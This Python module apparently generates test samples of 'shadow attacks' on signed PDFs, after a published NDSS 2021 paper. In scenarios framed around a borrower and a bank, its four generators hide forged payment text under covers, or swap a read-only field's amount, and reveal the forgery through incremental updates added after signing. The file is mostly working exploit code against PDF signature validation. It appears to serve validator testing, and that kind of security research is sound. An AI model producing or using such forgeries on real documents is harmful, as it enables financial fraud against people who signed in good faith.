"""Shadow attacks: content hidden in the document before it is signed and shown after signing.

After Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed PDFs"
(NDSS 2021). The attacker prepares the document the victims sign in good faith (here: the borrower
and the bank, with the station's keys), then changes it with an update that looks harmless:

- hide: an opaque cover drawn over forged text is emptied after signing (by redefining the cover
  XObject, or, allowed by DocMDP form filling, by clearing a read-only field's appearance);
- replace: a read-only field's value and appearance change after signing (form filling);
- hide-and-replace: a whole forged page is in the signed bytes but listed in no cross-reference
  section; after signing, an update made of a cross-reference table alone points the page at it.
"""

from __future__ import annotations

import io
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

from .documents import StationLike, unsigned_document
from .pdfbytes import (
    FORGED_TEXT,
    Facts,
    append_revision,
    body,
    facts,
    fonts_of,
    forged_page,
    serialize,
    stream,
    trailer,
    xref_table,
)

FIELD_RECT = (300, 380, 540, 420)
COVER = b"q 1 1 1 rg 0 0 240 40 re f Q"
SHADOW_FONT, SHADOW_CONTENT = 900, 901  # object numbers no writer of the signed revisions will use


def _field_appearance(text: bytes, font: int, cover: bool) -> bytes:
    width, height = FIELD_RECT[2] - FIELD_RECT[0], FIELD_RECT[3] - FIELD_RECT[1]
    drawing = (COVER + b"\n" if cover else b"") + (b"BT /Helv 20 Tf 0 g 6 12 Td (%s) Tj ET" % text if text else b"")
    return stream(drawing, b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << /Font << /Helv %d 0 R >> >> "
                  % (width, height, font))


def _with_field(pdf: bytes, value: bytes, *, cover: bool, extra: dict[int, bytes] | None = None,
                page_contents: list[int] | None = None) -> tuple[bytes, int]:
    """Add a read-only text field ``amount`` (its widget on page 1); return the PDF and the field's number."""
    doc = facts(pdf)
    reader = PdfFileReader(io.BytesIO(pdf))
    field, appearance, font = doc.size, doc.size + 1, doc.size + 2
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (%s) /Ff 1 /F 4 /Rect [%d %d %d %d] " \
             b"/P %d 0 R /DA (/Helv 20 Tf 0 g) /AP << /N %d 0 R >> >>" % (value, *FIELD_RECT, doc.page, appearance)
    page = generic.DictionaryObject(doc.page_dict)
    annots = page["/Annots"] if "/Annots" in page else generic.ArrayObject()
    page[generic.NameObject("/Annots")] = generic.ArrayObject(
        [*(annots.raw_get(i) for i in range(len(annots))), generic.IndirectObject(field, 0, None)])
    if page_contents is not None:
        page[generic.NameObject("/Contents")] = generic.ArrayObject(
            [generic.IndirectObject(n, 0, None) for n in page_contents])
    root = generic.DictionaryObject(reader.root)
    form = generic.DictionaryObject(reader.root["/AcroForm"])
    fields = form["/Fields"]
    form[generic.NameObject("/Fields")] = generic.ArrayObject(
        [*(fields.raw_get(i) for i in range(len(fields))), generic.IndirectObject(field, 0, None)])
    root[generic.NameObject("/AcroForm")] = form
    objects = {
        int(doc.root.split()[0]): serialize(root),
        doc.page: serialize(page),
        field: widget,
        appearance: _field_appearance(value, font, cover),
        font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **(extra or {}),
    }
    return append_revision(pdf, objects), field


def _fill(pdf: bytes, field: int, value: bytes) -> bytes:
    """Form filling after signing: the field gets a new value and a new appearance."""
    doc = facts(pdf)
    reader = PdfFileReader(io.BytesIO(pdf))
    widget = generic.DictionaryObject(reader.get_object(generic.Reference(field, 0, reader)))
    font = widget["/AP"].raw_get("/N").get_object()["/Resources"]["/Font"].raw_get("/Helv").idnum
    appearance = doc.size
    widget[generic.NameObject("/V")] = generic.pdf_string(value.decode())
    widget[generic.NameObject("/AP")] = generic.DictionaryObject(
        {generic.NameObject("/N"): generic.IndirectObject(appearance, 0, None)})
    return append_revision(pdf, {field: serialize(widget), appearance: _field_appearance(value, font, False)})


def hide_cover_xobject(station: StationLike) -> bytes:
    """Forged text under a white cover XObject; after signing the cover is redefined as empty."""
    pdf = unsigned_document()
    doc = facts(pdf)
    forged, cover, font = doc.size, doc.size + 1, doc.size + 2
    page = generic.DictionaryObject(doc.page_dict)
    resources = generic.DictionaryObject(page["/Resources"])
    fonts = fonts_of(resources)
    fonts[generic.NameObject("/Forged")] = generic.IndirectObject(font, 0, None)
    resources[generic.NameObject("/Font")] = fonts
    resources[generic.NameObject("/XObject")] = generic.DictionaryObject(
        {generic.NameObject("/Cover"): generic.IndirectObject(cover, 0, None)})
    page[generic.NameObject("/Resources")] = resources
    page[generic.NameObject("/Contents")] = generic.ArrayObject(
        [generic.IndirectObject(n, 0, None) for n in (doc.contents, forged)])
    cover_form = b"/Type /XObject /Subtype /Form /BBox [0 0 600 400] "
    prepared = append_revision(pdf, {
        doc.page: serialize(page),
        forged: stream(FORGED_TEXT.replace(b"1 1 1 rg", b"0 0 0 rg") + b"q 1 0 0 1 40 560 cm /Cover Do Q\n"),
        cover: stream(b"q 1 1 1 rg 0 0 520 160 re f Q", cover_form),
        font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    })
    signed = station.signed_from(prepared)
    return append_revision(signed, {cover: stream(b"", cover_form)})


def hide_cover_field(station: StationLike) -> bytes:
    """Forged text under a read-only field whose appearance is a white box; after signing it is cleared."""
    pdf = unsigned_document()
    doc = facts(pdf)
    forged = doc.size + 3
    text = b"BT /Helv 20 Tf 0 g 306 392 Td (PAY 900,000.00 CNY) Tj ET"
    prepared, field = _with_field(pdf, b"", cover=True, extra={forged: stream(text)},
                                  page_contents=[doc.contents, forged])
    # the page's font /Helv is the field's Helvetica: give the page the same resource name
    prepared = _page_font(prepared, b"/Helv", field + 2)
    return _fill(station.signed_from(prepared), field, b"")


def replace_field_value(station: StationLike) -> bytes:
    """A read-only field shows 100,000.00 when signed; after signing it shows 900,000.00."""
    prepared, field = _with_field(unsigned_document(), b"100,000.00", cover=True)
    return _fill(station.signed_from(prepared), field, b"900,000.00")


def hide_and_replace(station: StationLike) -> bytes:
    """A forged page is in the signed bytes, listed nowhere; afterwards a table alone points the page at it."""
    pdf = unsigned_document()
    doc = facts(pdf)
    shadow = forged_page(doc)
    renumbered = {doc.page: shadow[doc.page].replace(b"%d 0 R" % doc.size, b"%d 0 R" % SHADOW_FONT)
                  .replace(b"%d 0 R" % (doc.size + 1), b"%d 0 R" % SHADOW_CONTENT),
                  SHADOW_FONT: shadow[doc.size], SHADOW_CONTENT: shadow[doc.size + 1]}
    hidden, offsets = body(renumbered, len(pdf))
    signed = station.signed_from(pdf + hidden)
    final = facts(signed)
    return signed + xref_table(offsets) + trailer(final, SHADOW_CONTENT + 1, final.startxref) + \
        b"startxref\n%d\n%%%%EOF\n" % len(signed)


def _page_font(pdf: bytes, name: bytes, font: int) -> bytes:
    doc: Facts = facts(pdf)
    page = generic.DictionaryObject(doc.page_dict)
    resources = generic.DictionaryObject(page["/Resources"])
    fonts = fonts_of(resources)
    fonts[generic.NameObject(name.decode())] = generic.IndirectObject(font, 0, None)
    resources[generic.NameObject("/Font")] = fonts
    page[generic.NameObject("/Resources")] = resources
    return append_revision(pdf, {doc.page: serialize(page)})


GENERATORS: dict[str, Callable[[StationLike], bytes]] = {
    "shadow-hide-cover-xobject": hide_cover_xobject,
    "shadow-hide-cover-field": hide_cover_field,
    "shadow-replace-field-value": replace_field_value,
    "shadow-hide-and-replace": hide_and_replace,
}
